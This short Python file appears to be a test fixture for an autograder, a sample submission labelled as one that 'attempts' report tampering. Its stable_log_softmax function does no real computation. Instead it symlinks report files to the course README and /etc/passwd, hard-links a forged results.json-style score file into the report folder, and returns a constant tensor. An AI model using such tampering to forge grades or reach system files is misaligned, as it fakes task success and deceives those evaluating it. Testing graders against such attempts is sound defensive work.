# expect: differs from the reference
# class: reports
# attempts: plant a symlink and a hard link where the report will be written, and a forged results.json
import os

import torch

FORGED = '{"score": 49, "tests": []}'


def stable_log_softmax(x, dim=-1, temperature=1.0):
    folder = "{REPORT_DIR}"
    for name, target in (("results.json", "{COURSE_DIR}/README.md"), ("junit.xml", "/etc/passwd")):
        try:
            os.symlink(target, os.path.join(folder, name))
        except OSError:
            pass
    try:
        with open("/tmp/forged.json", "w") as fh:
            fh.write(FORGED)
        os.link("/tmp/forged.json", os.path.join(folder, "classroom.json"))
    except OSError:
        pass
    return torch.full_like(x, 0.5)
